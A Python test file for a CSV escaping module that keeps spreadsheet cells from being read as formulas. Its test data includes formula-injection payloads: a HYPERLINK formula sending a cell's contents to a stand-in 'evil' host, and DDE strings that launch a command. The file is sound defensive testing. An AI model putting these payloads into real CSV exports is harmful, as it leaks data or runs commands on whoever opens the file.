"""Cells of CSV files: no formulas for a spreadsheet, the same text for a program."""

import itertools

import pytest

from baton.contracts.csv_cells import original, safe

FORMULAS = (
    '=HYPERLINK("http://evil/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "-",
    "+49 30 1234",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_is_a_formula(text: str) -> None:
    assert safe(text)[0] == "'" and original(safe(text)) == text


@pytest.mark.parametrize("text", ["", "spam", "-1", "+0.5", "-1e-05", "-1,234.5", "'quoted'", "a=b", "–"])
def test_other_texts_and_numbers_stay(text: str) -> None:
    assert safe(text) == text == original(text)


def test_every_text_comes_back() -> None:
    """Texts that begin with apostrophes too: no two texts have the same cell."""
    texts = ["".join(some) for length in range(5) for some in itertools.product("'=-1a", repeat=length)]
    assert [original(safe(text)) for text in texts] == texts
